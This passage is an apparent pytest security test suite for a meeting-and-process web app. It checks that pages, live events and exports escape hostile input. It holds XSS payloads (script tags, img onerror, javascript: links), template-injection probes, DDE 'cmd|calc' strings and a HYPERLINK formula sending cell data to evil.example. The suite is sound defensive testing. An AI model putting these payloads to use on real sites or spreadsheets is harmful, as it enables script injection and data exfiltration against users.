"""Hostile text in every field people type, carried to every place that shows it.

One process whose every user-supplied text — names of people, organisations, staff, the
process, meetings, tables, the agenda, notes, comments, questions, decisions, actions,
lines of work, attendance notes, uploaded file names, synthesis statements, pledges — holds
a hostile payload: markup, template syntax, bidi overrides, zero-width characters, emoji,
control characters, spreadsheet formulas. Then every page, every live event and every
export is checked to carry it inert: escaped in HTML (no injected element, `{{7*7}}` shown
as typed), unchanged as data, neutralised in CSV and XLSX, plain text in DOCX, ODT and PDF.
"""

from __future__ import annotations

import csv
import io
import json
import re
import secrets
import zipfile
from dataclasses import dataclass, field, replace
from xml.etree import ElementTree

import html5lib
import pytest
from markdown_it import MarkdownIt
from sqlmodel import Session
from websockets.sync.client import connect

from boards.models import NAME_LIMIT, TEXT_LIMIT, Person
from boards.text import clean_text
from realtime.frames import Op
from realtime.identity import Identity
from realtime.messages import OPS
from realtime.ops import execute
from realtime.streams import parse_wire
from tests.api.support import bearer, client_from, staff_account
from tests.conftest import PASSWORD, cheap_password_hashing, unique

PAYLOADS = {
    "script": "<script>alert(1)</script>",
    "img": '"><img src=x onerror=alert(1)>',
    "javascript": "javascript:alert(1)",
    "jinja": "{{7*7}} {% raw %} ${7*7} #{7*7}",
    "unicode": "Ca\u202eff\u200be\ufeff 🎉👩‍👩‍👧 \x07\x1b[31m fine",
    "hyperlink": '=HYPERLINK("http://evil.example/?"&A1,"Clic")',
    "dde": "+cmd|' /C calc'!A0",
    "at": "@SUM(1)",
    "minus": "-2+3+cmd|' /C calc'!A0",
}
# What the product stores for each: bidi overrides and control characters are dropped.
STORED = {key: clean_text(value, field="t") for key, value in PAYLOADS.items()}
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


@dataclass
class Hostile:
    client: object
    engine: object
    tokens: dict[str, str]
    process: int
    meeting: int
    board: int
    organizations: list[int] = field(default_factory=list)
    items: list[int] = field(default_factory=list)
    statements: list[int] = field(default_factory=list)
    pledges: list[int] = field(default_factory=list)
    documents: list[int] = field(default_factory=list)
    lines: list[int] = field(default_factory=list)
    people: dict[str, int] = field(default_factory=dict)
    identities: dict[str, Identity] = field(default_factory=dict)
    # A second meeting, still open, for ops after the first has ended.
    open_meeting: dict = field(default_factory=dict)

    def call(self, method: str, url: str, role: str = "facilitator", **kwargs):
        answer = self.client.request(method, url, headers=bearer(self.tokens[role]), **kwargs)
        assert answer.status_code < 300, f"{method} {url}: {answer.text}"
        return answer.json() if answer.headers.get("content-type", "").startswith("application/json") else answer

    def op(self, stream: str, name: str, data: dict, role: str = "facilitator",
           meeting: int | None = None) -> dict:
        """An op through the real-time core's own path (shape check, domain, commit), no socket."""
        spec = OPS[name]
        meeting = meeting or self.meeting
        identity = replace(self.identities[role], meeting_id=meeting)
        with Session(self.engine) as session:
            outcome = execute(session, identity=identity, op=Op(unique("op"), stream, name, data),
                              spec=spec, data=spec.read(data), stream=parse_wire(stream, meeting_id=meeting))
        return outcome.ack["result"]


@pytest.fixture(scope="module")
def hostile(app, engine) -> Hostile:
    with cheap_password_hashing():
        return _build(app, engine)


def _build(app, engine) -> Hostile:
    client = client_from(app, f"10.254.{secrets.randbelow(250)}.{secrets.randbelow(250)}")
    values = list(PAYLOADS.values())
    tokens = {}
    emails = {}
    for role, name in [("facilitator", PAYLOADS["img"]), ("secretary", PAYLOADS["hyperlink"])]:
        emails[role] = f"{unique(role)}@example.org"
        _, tokens[role] = staff_account(engine, role, emails[role], name, PASSWORD)

    def call(method, url, role="facilitator", **kwargs):
        answer = client.request(method, url, headers=bearer(tokens.get(role)), **kwargs)
        assert answer.status_code < 300, f"{method} {url}: {answer.text}"
        return answer.json() if answer.content else None

    process = call("POST", "/api/v1/processes", json={
        "title": f"{PAYLOADS['script']} Percorso", "kind": "co-design",
        "description": " ".join(values), "administration": PAYLOADS["img"],
        "procedure_ref": PAYLOADS["jinja"], "rup_name": PAYLOADS["hyperlink"]})["id"]
    call("POST", f"/api/v1/processes/{process}/staff", json={"email": emails["secretary"], "role": "secretary"})
    kinds = ["public", "health", "third_sector", "other"]
    organizations = [
        call("POST", f"/api/v1/processes/{process}/organizations",
             json={"name": value, "kind": kinds[i % len(kinds)]})["id"]
        for i, value in enumerate(values)
    ]
    for value in values:
        call("POST", f"/api/v1/processes/{process}/tables", json={"title": value, "description": value})
        call("POST", f"/api/v1/processes/{process}/steering", json={"name": value, "position": value})
    meeting = call("POST", f"/api/v1/processes/{process}/meetings", json={
        "title": f"{PAYLOADS['jinja']} Incontro", "starts_at": "2026-12-01T14:00:00Z", "mode": "hybrid",
        "location": PAYLOADS["javascript"], "agenda": values})
    people = {}
    for key, organization in zip(PAYLOADS, organizations, strict=True):
        invite = call("POST", f"/api/v1/processes/{process}/invites",
                      json={"name": PAYLOADS[key], "organization": organization, "role": "participant",
                            # An address may hold markup too ("> and < are not spaces).
                            "email": f'"><script>alert(1)</script>{key}@example.org'})
        joined = call("POST", "/api/v1/join", role=None, json={"invite": invite["invite"]})
        people[key] = joined["participant"]["id"]
        tokens[f"participant-{key}"] = joined["token"]
    tokens["participant"] = tokens["participant-hyperlink"]

    world = Hostile(client, engine, tokens, process, meeting["id"], meeting["plenary_board"],
                    organizations, people=people)
    staff = {member["role"]: member["person"]
             for member in call("GET", f"/api/v1/processes/{process}")["staff"]}
    with Session(engine) as session:
        for role, person_id in [("facilitator", staff["facilitator"]), ("secretary", staff["secretary"]),
                                ("participant", people["hyperlink"])]:
            person = session.get(Person, person_id)
            world.identities[role] = Identity(person.id, person.name, person.organization_id, person.role,
                                              meeting["id"], "it")

    board = f"board:{world.board}"
    world.op("meeting", "meeting.start", {})
    for value in values:
        world.items.append(world.op(board, "item.create", {"kind": "note", "x": 1, "y": 1, "text": value},
                                    role="participant")["item"]["id"])
        world.op(board, "comment.add", {"item": world.items[0], "text": value})
        world.op("meeting", "prompt.open", {"text": value})
        world.op("meeting", "decision.record", {"text": value, "method": "consensus", "outcome": value,
                                                "items": [world.items[0]]})
        world.op("meeting", "action.add", {"text": value, "owner": organizations[0], "due": "2026-12-15"})
        world.op("meeting", "timer.start", {"seconds": 60, "label": value[:100]})
    frame = world.op(board, "item.create", {"kind": "frame", "x": 0, "y": 0, "text": PAYLOADS["script"]})
    world.op(board, "item.create", {"kind": "note", "x": 2, "y": 2, "text": PAYLOADS["img"],
                                    "frame": frame["item"]["id"]})
    line = world.op("meeting", "line.promote", {"board": world.board, "frame": frame["item"]["id"],
                                                "title": PAYLOADS["jinja"]})
    world.lines.append(line["line"]["id"])
    call("PATCH", f"/api/v1/lines/{world.lines[0]}", json={"description": " ".join(values)})

    for value in values:
        call("POST", f"/api/v1/meetings/{meeting['id']}/attendance", json={
            "name": value, "organization_name": value, "title": value, "note": value})
    call("PATCH", f"/api/v1/meetings/{meeting['id']}/attendance",
         json={"participant": people["script"], "status": "excused", "note": " ".join(values)})
    for key, value in PAYLOADS.items():
        answer = client.post(f"/api/v1/meetings/{meeting['id']}/documents", headers=bearer(tokens["facilitator"]),
                             data={"title": value},
                             files={"file": (f"{value}.pdf", b"%PDF-1.4\n%%EOF\n", "application/pdf")})
        assert answer.status_code == 201, answer.text
        world.documents.append(answer.json()["id"])
    for value in values:
        world.statements.append(call("POST", f"/api/v1/processes/{process}/synthesis/statements",
                                     json={"text": value, "sources": [world.items[0]]})["id"])
        world.pledges.append(call("POST", f"/api/v1/processes/{process}/pledges", json={
            "organization": organizations[0], "kind": "spaces", "description": value, "quantity": "1",
            "unit": value[:40], "value_eur": "10"})["id"])
    world.op("meeting", "meeting.end", {})
    world.open_meeting = call("POST", f"/api/v1/processes/{process}/meetings", json={
        "title": "Aperto", "starts_at": "2026-12-02T14:00:00Z", "mode": "online", "agenda": ["Uno"]})

    # The verbale: what the record makes of it, plus what staff may type in the draft.
    draft = call("GET", f"/api/v1/meetings/{meeting['id']}/minutes/draft")
    typed = "\n\n".join([draft["markdown"], "[Clic](javascript:alert(1))", "<script>alert(2)</script>",
                         '<img src=x onerror="alert(3)">', "{{7*7}} {% raw %} ${7*7}",
                         "[data](data:text/html;base64,PHNjcmlwdD4=)"])
    call("PUT", f"/api/v1/meetings/{meeting['id']}/minutes/draft", json={"markdown": typed})
    version = call("POST", f"/api/v1/meetings/{meeting['id']}/minutes/approve")["version"]
    call("POST", f"/api/v1/meetings/{meeting['id']}/minutes/versions/{version}/publish")
    call("POST", f"/api/v1/processes/{process}/synthesis/approve")
    call("POST", f"/api/v1/processes/{process}/synthesis/publish")
    return world


# --- what "inert" means ----------------------------------------------------------------

_parser = html5lib.HTMLParser(namespaceHTMLElements=False)


def injected(html: str) -> list[str]:
    """Elements and attributes in `html` that the payloads could have made."""
    tree = _parser.parse(html)
    found = []
    for element in tree.iter():
        if not isinstance(element.tag, str):
            continue
        if element.tag == "script" and (not element.get("src", "").startswith("/static/")
                                        or (element.text or "").strip()):
            found.append(f"script {element.attrib} {element.text!r:.60}")
        if element.tag in ("img", "iframe", "object", "embed") and element.get("src") in ("x", None):
            if element.tag != "img" or element.get("src") == "x":
                found.append(f"{element.tag} {element.attrib}")
        for name, value in element.attrib.items():
            if name.lower().startswith("on"):
                found.append(f"{element.tag} @{name}={value!r}")
            if name.lower() in ("href", "src", "action", "formaction", "xlink:href") and \
                    re.sub(r"\s", "", value).lower().startswith(("javascript:", "data:text/html", "vbscript:")):
                found.append(f"{element.tag} @{name}={value!r}")
    return found


def text_of(html: str) -> str:
    tree = _parser.parse(html)
    return "".join(tree.itertext())


def assert_inert_html(html: str, *, shows: list[str] = ()) -> None:
    assert injected(html) == []
    text = text_of(html)
    # Shown as typed: not dropped, and not evaluated (`{{7*7}}` stays, never 49).
    for value in shows:
        assert value in text, f"{value!r} is not shown as typed"


# --- pages --------------------------------------------------------------------------------

ALL = list(PAYLOADS)
PAGES = {
    # page: (role, the payloads it must show as typed)
    "/processes": ("facilitator", ["script", "img", "jinja"]),
    "/processes/{process}": ("facilitator", ALL),
    "/processes/{process}/audit": ("facilitator", ALL),
    "/processes/{process}/pledges": ("facilitator", ALL),
    "/processes/{process}/reflection": ("facilitator", ["script", "img", "jinja"]),
    "/processes/{process}/synthesis": ("facilitator", ALL),
    "/synthesis/statements/{statement}/edit": ("facilitator", ALL),
    "/pledges/{pledge}/edit": ("facilitator", ALL),
    "/meetings/{meeting}/setup": ("facilitator", ALL),
    "/meetings/{meeting}/attendance": ("facilitator", ALL),
    "/meetings/{meeting}/documents": ("facilitator", ALL),
    "/meetings/{meeting}/minutes": ("facilitator", ALL),
    "/meetings/{meeting}/minutes/approve": ("facilitator", ALL),
    "/meetings/{meeting}/reflection": ("facilitator", ALL),
    "/meetings/{meeting}/room": ("facilitator", ALL),
    "/meetings/{meeting}/room#participant": ("participant", ALL),
    "/meetings/{meeting}/minutes#participant": ("participant", ALL),
    "/meetings/{meeting}/reflection#participant": ("participant", ALL),
    # Contributions, decisions, statements: the texts, not people's names.
    "/public/meetings/{meeting}/minutes": (None, ALL),
    "/public/processes/{process}/synthesis": (None, ALL),
    "/processes/{process}/insights": ("facilitator", ALL),
    "/insights": ("facilitator", ["img"]),
    "/people/{person}/erase": ("facilitator", ["script", "img"]),
}


def _url(world: Hostile, page: str) -> str:
    return page.split("#")[0].format(process=world.process, meeting=world.meeting,
                                     statement=world.statements[0], pledge=world.pledges[0],
                                     person=world.people["img"])


@pytest.mark.parametrize("page", list(PAGES))
def test_pages_show_hostile_text_escaped(hostile, page):
    role, shows = PAGES[page]
    answer = hostile.client.get(_url(hostile, page), headers=bearer(hostile.tokens.get(role)),
                                follow_redirects=False)
    assert answer.status_code == 200, answer.text[:300]
    assert answer.headers["content-type"].startswith("text/html")
    assert_inert_html(answer.text, shows=[STORED[key] for key in shows])


# --- the API gives the texts back unchanged, as data ------------------------------------


def test_the_api_returns_the_texts_as_stored(hostile):
    board = hostile.call("GET", f"/api/v1/boards/{hostile.board}")
    texts = {item["text"] for item in board["items"]}
    assert set(STORED.values()) <= texts
    unicode = STORED["unicode"]
    assert "\u202e" not in unicode and "\x07" not in unicode and "\x1b" not in unicode
    assert "\u200b" in unicode and "\ufeff" in unicode and "👩‍👩‍👧" in unicode
    meeting = hostile.call("GET", f"/api/v1/meetings/{hostile.meeting}")
    assert meeting["agenda"] == list(STORED.values())
    documents = hostile.call("GET", f"/api/v1/meetings/{hostile.meeting}/documents")
    for name in [document["filename"] for document in documents]:
        assert not set('<>"/\\:*?|') & set(name), name
        assert "\u202e" not in name and not any(ord(ch) < 32 for ch in name)


def test_a_downloaded_document_is_named_safely(hostile):
    answer = hostile.client.get(f"/api/v1/documents/{hostile.documents[1]}", headers=bearer(hostile.tokens["facilitator"]))
    assert answer.status_code == 200
    disposition = answer.headers["content-disposition"]
    assert "\r" not in disposition and "\n" not in disposition
    assert "<img" not in disposition and disposition.count('"') in (0, 2)


# --- live events ------------------------------------------------------------------------


class Reader:
    """Frames of one connection, batches unwrapped, read in order."""

    def __init__(self, ws) -> None:
        self.ws = ws
        self.pending: list[dict] = []

    def send(self, frame: dict) -> None:
        self.ws.send(json.dumps(frame))

    def until(self, predicate) -> dict:
        """The first frame matching `predicate`; the ones before it are skipped."""
        while True:
            while self.pending:
                frame = self.pending.pop(0)
                if predicate(frame):
                    return frame
            frame = json.loads(self.ws.recv(timeout=10))
            self.pending.extend(frame["frames"] if frame["type"] == "batch" else [frame])


def _connected(token: str, ws) -> Reader:
    reader = Reader(ws)
    reader.send({"type": "hello", "token": token})
    assert reader.until(lambda f: True)["type"] == "welcome"
    return reader


def _subscribed(reader: Reader, stream: str) -> dict:
    """The stream's snapshot, once synced."""
    reader.send({"type": "subscribe", "stream": stream})
    snapshot = reader.until(lambda f: f["type"] == "snapshot" and f["stream"] == stream)
    reader.until(lambda f: f["type"] == "synced" and f["stream"] == stream)
    return snapshot


# What each op sends in its event, and where in the event's data its text arrives.
LIVE = {
    "item.create": ("board", lambda text: {"kind": "note", "x": 1, "y": 1, "text": text},
                    "item.created", lambda data: data["item"]["text"]),
    "prompt.open": ("meeting", lambda text: {"text": text}, "prompt.opened", lambda data: data["prompt"]["text"]),
    "decision.record": ("meeting", lambda text: {"text": text, "method": "consensus", "outcome": text},
                        "decision.recorded", lambda data: data["decision"]["text"]),
    "action.add": ("meeting", lambda text: {"text": text, "owner": None},
                   "action.added", lambda data: data["action"]["text"]),
    "message.broadcast": ("meeting", lambda text: {"text": text}, "message.broadcast", lambda data: data["text"]),
    "timer.start": ("meeting", lambda text: {"seconds": 60, "label": text}, "timer.started",
                    lambda data: data["label"]),
}


def test_live_events_carry_the_text_unchanged(hostile, live_server):
    """What one person types reaches another as the same text, in events and snapshots:
    comments on the ended meeting, every other kind of text on the open one."""
    url = f"{live_server.ws_url}/ws/meetings/{hostile.meeting}"
    board = f"board:{hostile.board}"
    with connect(url, open_timeout=10) as staff_ws, connect(url, open_timeout=10) as member_ws:
        staff = _connected(hostile.tokens["facilitator"], staff_ws)
        member = _connected(hostile.tokens["participant"], member_ws)
        snapshot = _subscribed(member, board)
        assert set(STORED.values()) <= {item["text"] for item in snapshot["state"]["items"]}
        assert set(STORED.values()) <= {comment["text"] for comment in snapshot["state"]["comments"]}
        for key, value in PAYLOADS.items():
            op_id = unique(key)
            staff.send({"type": "op", "id": op_id, "stream": board, "name": "comment.add",
                        "data": {"item": hostile.items[0], "text": value}})
            ack = staff.until(lambda f, op_id=op_id: f.get("id") == op_id)
            assert ack["type"] == "ack", ack
            assert ack["result"]["comment"]["text"] == STORED[key]
            event = member.until(lambda f: f["type"] == "event" and f["name"] == "comment.added")
            assert event["data"]["comment"]["text"] == STORED[key]

    meeting = hostile.open_meeting
    url = f"{live_server.ws_url}/ws/meetings/{meeting['id']}"
    board = f"board:{meeting['plenary_board']}"
    with connect(url, open_timeout=10) as staff_ws, connect(url, open_timeout=10) as member_ws:
        staff = _connected(hostile.tokens["facilitator"], staff_ws)
        member = _connected(hostile.tokens["participant"], member_ws)
        for reader in (staff, member):
            _subscribed(reader, "meeting")
            _subscribed(reader, board)
        for name, (where, data, event_name, text_of_event) in LIVE.items():
            sender, receiver = (member, staff) if name == "item.create" else (staff, member)
            for key, value in PAYLOADS.items():
                op_id = unique(key)
                body = data(value[:100] if name == "timer.start" else value)
                if name == "action.add":
                    body["owner"] = hostile.organizations[0]
                sender.send({"type": "op", "id": op_id, "stream": board if where == "board" else "meeting",
                             "name": name, "data": body})
                ack = sender.until(lambda f, op_id=op_id: f.get("id") == op_id)
                assert ack["type"] == "ack", (name, ack)
                event = receiver.until(lambda f, event_name=event_name: f["type"] == "event"
                                       and f["name"] == event_name)
                expected = clean_text(value[:100], field="t") if name == "timer.start" else STORED[key]
                assert text_of_event(event["data"]) == expected, (name, key)


# --- exports ------------------------------------------------------------------------------

DOCUMENTS = {
    "verbale": "/api/v1/meetings/{meeting}/minutes?version=1&format={fmt}",
    "verbale-draft": "/api/v1/meetings/{meeting}/minutes?format={fmt}",
    "verbale-public": "/api/v1/public/meetings/{meeting}/minutes?format={fmt}",
    "synthesis": "/api/v1/processes/{process}/synthesis?format={fmt}",
    "synthesis-public": "/api/v1/processes/{process}/synthesis/public?format={fmt}",
}


def _export(world: Hostile, document: str, fmt: str) -> bytes:
    url = DOCUMENTS[document].format(meeting=world.meeting, process=world.process, fmt=fmt)
    answer = world.client.get(url, headers=bearer(world.tokens["facilitator"]))
    assert answer.status_code == 200, answer.text[:300]
    return answer.content


def _plain_text(fmt: str, content: bytes) -> str:
    """The text of a DOCX, ODT or PDF, checking that its markup is well formed."""
    if fmt == "pdf":
        from pypdf import PdfReader

        assert b"/JavaScript" not in content and b"/JS " not in content and b"/JS(" not in content
        assert b"javascript:" not in content.lower()
        reader = PdfReader(io.BytesIO(content))
        return "\n".join(page.extract_text() for page in reader.pages)
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        texts = []
        for name in archive.namelist():
            if name.endswith((".xml", ".rels")):
                data = archive.read(name)
                root = ElementTree.fromstring(data)  # well formed: nothing broke out of a text node
                for element in root.iter():
                    for attribute, value in element.attrib.items():
                        # Links (ODT's xlink:href, DOCX relationships' Target) go nowhere hostile.
                        if attribute.endswith(("}href", "Target")):
                            assert not re.sub(r"\s", "", value).lower().startswith(
                                ("javascript:", "data:", "vbscript:")), (name, value)
                if name in ("word/document.xml", "content.xml"):
                    texts.append(" ".join(ElementTree.fromstring(data).itertext()))
        return "\n".join(texts)


@pytest.mark.parametrize("document", list(DOCUMENTS))
def test_markdown_and_html_exports_are_inert(hostile, document):
    markdown = _export(hostile, document, "md").decode()
    # The Markdown itself, rendered by any CommonMark renderer that lets HTML through: the
    # record's texts (every payload here says alert(1)) are escaped in it. The verbale's staff
    # typed raw HTML in their draft (alert(2), alert(3)): the Markdown keeps what they typed,
    # its approved hash is of those bytes; our renderers escape it (the HTML below).
    assert [found for found in injected(MarkdownIt("commonmark").render(markdown)) if "alert(1)" in found] == []
    if document.startswith("synthesis"):
        assert_inert_html(MarkdownIt("commonmark").render(markdown))
    html = _export(hostile, document, "html").decode()
    assert_inert_html(html, shows=["{{7*7}}"])
    if not document.endswith("public"):
        assert STORED["script"] in text_of(html)


@pytest.mark.parametrize("fmt", ["docx", "odt", "pdf"])
@pytest.mark.parametrize("document", ["verbale", "synthesis"])
def test_office_and_pdf_exports_keep_the_payloads_as_plain_text(hostile, document, fmt):
    text = _plain_text(fmt, _export(hostile, document, fmt))
    squeezed = re.sub(r"\s+", "", text)
    # Shown as typed: the markup as text, the template syntax not evaluated.
    for key in ("script", "jinja"):
        assert re.sub(r"\s+", "", STORED[key]) in squeezed, key


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_contributions_tables_neutralise_formulas(hostile, fmt):
    answer = hostile.client.get(f"/api/v1/meetings/{hostile.meeting}/contributions?format={fmt}",
                                headers=bearer(hostile.tokens["facilitator"]))
    assert answer.status_code == 200, answer.text[:300]
    if fmt == "csv":
        rows = list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig")), delimiter=";"))
        cells = [cell for row in rows for cell in row]
        # Neutralised with a leading apostrophe: the text follows it unchanged.
        assert [cell for cell in cells if cell.startswith(FORMULA_START)] == []
        shown = [cell.removeprefix("'") for cell in cells]
    else:
        from openpyxl import load_workbook

        book = load_workbook(io.BytesIO(answer.content))
        shown = []
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", cell.coordinate
                    if isinstance(cell.value, str) and cell.value.startswith(FORMULA_START):
                        # Text, with Excel's quote prefix: editing it keeps it text.
                        assert cell.data_type == "s" and cell.quotePrefix, cell.coordinate
                    if cell.value is not None:
                        shown.append(str(cell.value))
    # Every payload is there whole, as text: in the contributions and as authors' and
    # organisations' names.
    for key in PAYLOADS:
        assert STORED[key] in shown, key
    assert shown.count(STORED["hyperlink"]) >= 3  # a note's text, its author, an organisation


# --- limits -------------------------------------------------------------------------------

LONG_TEXTS = {
    # what: (method, url, body for a text of n characters, the limit)
    "statement": ("POST", "/api/v1/processes/{process}/synthesis/statements",
                  lambda w, text: {"text": text, "sources": [w.items[0]]}, TEXT_LIMIT),
    "line description": ("PATCH", "/api/v1/lines/{line}", lambda w, text: {"description": text}, TEXT_LIMIT),
    "attendance note": ("PATCH", "/api/v1/meetings/{meeting}/attendance",
                        lambda w, text: {"participant": w.identities["participant"].person_id,
                                         "status": "present", "note": text}, TEXT_LIMIT),
    "pledge description": ("POST", "/api/v1/processes/{process}/pledges",
                           lambda w, text: {"organization": w.organizations[0], "kind": "spaces",
                                            "description": text, "quantity": "1", "unit": "m²",
                                            "value_eur": "1"}, TEXT_LIMIT),
    "organisation name": ("POST", "/api/v1/processes/{process}/organizations",
                          lambda w, text: {"name": text, "kind": "other"}, NAME_LIMIT),
    "invitee name": ("POST", "/api/v1/processes/{process}/invites",
                     lambda w, text: {"name": text, "organization": w.organizations[0],
                                      "role": "participant"}, NAME_LIMIT),
    "meeting title": ("PATCH", "/api/v1/meetings/{open_meeting}", lambda w, text: {"title": text}, NAME_LIMIT),
    "agenda entry": ("PATCH", "/api/v1/meetings/{open_meeting}", lambda w, text: {"agenda": [text]}, TEXT_LIMIT),
}


@pytest.mark.parametrize("what", list(LONG_TEXTS))
def test_texts_up_to_the_limit_are_accepted_and_one_more_refused(hostile, what):
    method, url, body, limit = LONG_TEXTS[what]
    url = url.format(process=hostile.process, meeting=hostile.meeting, line=hostile.lines[0],
                     open_meeting=hostile.open_meeting["id"])
    # Emoji count as one character each, as people see them.
    exact = ("é" * (limit - 1)) + "🎉"
    answer = hostile.client.request(method, url, json=body(hostile, exact), headers=bearer(hostile.tokens["facilitator"]))
    assert answer.status_code in (200, 201), answer.text[:300]
    refused = hostile.client.request(method, url, json=body(hostile, exact + "x"),
                                     headers=bearer(hostile.tokens["facilitator"]))
    assert refused.status_code == 422, refused.text[:300]
    assert str(limit) in refused.json()["detail"]


@pytest.mark.parametrize("name", ["item.create", "comment.add", "prompt.open", "decision.record", "action.add"])
def test_op_texts_up_to_the_limit_are_accepted_and_one_more_refused(hostile, name):
    from boards.errors import InvalidInput

    def data(text):
        return {
            "item.create": {"kind": "note", "x": 1, "y": 1, "text": text},
            "comment.add": {"item": hostile.items[1], "text": text},
            "prompt.open": {"text": text},
            "decision.record": {"text": text, "method": "consensus", "outcome": "ok"},
            "action.add": {"text": text, "owner": hostile.organizations[0]},
        }[name]

    meeting = hostile.open_meeting
    board = f"board:{meeting['plenary_board']}"
    if name == "comment.add":
        item = hostile.op(board, "item.create", {"kind": "note", "x": 1, "y": 1, "text": "a"}, meeting=meeting["id"])
        hostile.items[1] = item["item"]["id"]
    stream = board if name in ("item.create", "comment.add") else "meeting"
    exact = "a" * (TEXT_LIMIT - 1) + "🎉"
    hostile.op(stream, name, data(exact), meeting=meeting["id"])
    with pytest.raises(InvalidInput, match="longer than"):
        hostile.op(stream, name, data(exact + "a"), meeting=meeting["id"])


def test_open_data_neutralises_formulas_in_every_file(hostile):
    """Contributions marked publishable go into the open data: formula-safe CSV, plain JSON."""
    for item in hostile.items:
        hostile.call("PUT", f"/api/v1/items/{item}/publishable", json={"publishable": True})
    answer = hostile.client.get(f"/api/v1/processes/{hostile.process}/opendata?format=csv&threshold=2",
                                headers=bearer(hostile.tokens["facilitator"]))
    assert answer.status_code == 200, answer.text[:300]
    shown = []
    with zipfile.ZipFile(io.BytesIO(answer.content)) as archive:
        for name in archive.namelist():
            if not name.endswith(".csv"):
                continue
            rows = csv.reader(io.StringIO(archive.read(name).decode("utf-8-sig")), delimiter=";")
            cells = [cell for row in rows for cell in row]
            assert [cell for cell in cells if cell.startswith(FORMULA_START)] == [], name
            shown += [cell.removeprefix("'") for cell in cells]
    for key in ("hyperlink", "dde", "at", "minus", "script"):
        assert STORED[key] in shown, key
    data = hostile.client.get(f"/api/v1/processes/{hostile.process}/opendata?format=json&threshold=2",
                              headers=bearer(hostile.tokens["facilitator"]))
    assert data.status_code == 200 and data.headers["content-type"].startswith("application/json")
    assert STORED["script"] in json.dumps(data.json(), ensure_ascii=False)


def test_a_persons_data_export_is_json_not_markup(hostile):
    person = hostile.people["script"]
    answer = hostile.client.get(f"/api/v1/people/{person}/export", headers=bearer(hostile.tokens["facilitator"]))
    assert answer.status_code == 200, answer.text[:300]
    assert answer.headers["content-type"].startswith("application/json")
    assert answer.headers["x-content-type-options"] == "nosniff"
    assert "attachment" in answer.headers["content-disposition"]
    assert STORED["script"] in json.dumps(answer.json(), ensure_ascii=False)


# --- what people put in addresses ---------------------------------------------------------

REFLECTED = '"><script>alert(9)</script><img src=x onerror=alert(9)>'
ADDRESSES = [
    "/processes/{x}", "/login?next={x}", "/login?next=javascript:alert(9)", "/code?code={x}", "/code/{x}",
    "/join/{x}", "/processes/{process}/insights?period={x}&table={x}&kind={x}",
    "/insights?administration={x}", "/processes/{process}/pledges?done={x}",
    "/meetings/{meeting}/minutes?format={x}&version={x}", "/processes/{process}/synthesis?line={x}&q={x}",
    "/meetings/{meeting}/reflection?since={x}", "/processes/{process}/audit?action={x}&page={x}",
    "/meetings/{meeting}/room?board={x}&view={x}",
]


@pytest.mark.parametrize("address", ADDRESSES)
def test_what_an_address_carries_is_never_markup(hostile, address):
    """Paths and query parameters shown back (errors, filters, `next`) are escaped; a
    redirect goes to a path on this site."""
    from urllib.parse import quote

    url = address.format(x=quote(REFLECTED), process=hostile.process, meeting=hostile.meeting)
    for role in ("facilitator", None):
        answer = hostile.client.get(url, headers=bearer(hostile.tokens.get(role)), follow_redirects=False)
        assert answer.status_code < 500
        if answer.is_redirect:
            location = answer.headers["location"]
            assert location.startswith("/") and not location.startswith("//"), location
        elif answer.headers["content-type"].startswith("text/html"):
            assert injected(answer.text) == []
            assert "alert(9)</script>" not in answer.text


# --- uploads ------------------------------------------------------------------------------


@pytest.mark.parametrize(("name", "data", "media_type"), [
    ("pagina.html", b"<script>alert(1)</script>", "text/html"),
    ("disegno.svg", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "image/svg+xml"),
    ("finto.pdf", b"<html><script>alert(1)</script></html>", "application/pdf"),
    ("finto.txt", b"MZ\x90\x00\x03\x00\x00\x00", "text/plain"),
    ("script.js", b"alert(1)", "text/javascript"),
])
def test_uploads_of_markup_or_mislabelled_files_are_refused(hostile, name, data, media_type):
    answer = hostile.client.post(f"/api/v1/meetings/{hostile.meeting}/documents",
                                 headers=bearer(hostile.tokens["facilitator"]),
                                 files={"file": (name, data, media_type)})
    assert answer.status_code in (415, 422), answer.text
    assert "<script>" not in answer.text


def test_a_text_file_with_markup_downloads_as_text_never_as_a_page(hostile):
    upload = hostile.client.post(f"/api/v1/meetings/{hostile.meeting}/documents",
                                 headers=bearer(hostile.tokens["facilitator"]),
                                 files={"file": ("note.txt", b"<html><script>alert(1)</script></html>", "text/plain")})
    assert upload.status_code == 201, upload.text
    answer = hostile.client.get(f"/api/v1/documents/{upload.json()['id']}", headers=bearer(hostile.tokens["participant"]))
    assert answer.status_code == 200
    assert answer.headers["content-type"].startswith("text/plain")
    assert answer.headers["x-content-type-options"] == "nosniff"
    assert answer.headers["content-disposition"].startswith("attachment")


# --- moments no page could show ----------------------------------------------------------


@pytest.mark.parametrize("moment", ["9999-12-31T23:59:59Z", "0001-01-01T00:00:00Z", "3000-01-01T00:00:00Z"])
def test_a_moment_no_page_could_show_is_refused_everywhere_it_is_typed(hostile, moment):
    """A meeting on 31 December 9999 once made the process's every page and export fail
    (its local time is in the year 10000): start, arrival and deadline stay within years
    1900..2999."""
    from boards.errors import InvalidInput

    auth = bearer(hostile.tokens["facilitator"])
    answer = hostile.client.post(f"/api/v1/processes/{hostile.process}/meetings", headers=auth, json={
        "title": "Fuori dal tempo", "starts_at": moment, "mode": "online", "agenda": ["a"]})
    assert answer.status_code == 422, answer.text
    answer = hostile.client.patch(f"/api/v1/meetings/{hostile.open_meeting['id']}", headers=auth,
                                  json={"starts_at": moment})
    assert answer.status_code == 422, answer.text
    answer = hostile.client.post(f"/api/v1/meetings/{hostile.open_meeting['id']}/attendance", headers=auth,
                                 json={"name": "Ritardataria", "organization": hostile.organizations[0],
                                       "joined_at": moment})
    assert answer.status_code == 422, answer.text
    with pytest.raises(InvalidInput, match="deadline"):
        hostile.op("meeting", "prompt.open", {"text": "Entro quando?", "deadline": moment.replace("Z", "+00:00")},
                   meeting=hostile.open_meeting["id"])
    # The edges that are accepted show everywhere.
    edge = hostile.client.post(f"/api/v1/processes/{hostile.process}/meetings", headers=auth, json={
        "title": "Al limite", "starts_at": "2999-12-31T23:59:59Z", "mode": "online", "agenda": ["a"]})
    assert edge.status_code == 201, edge.text
    for url in (f"/processes/{hostile.process}", f"/meetings/{edge.json()['id']}/room",
                f"/api/v1/meetings/{edge.json()['id']}/minutes?format=md"):
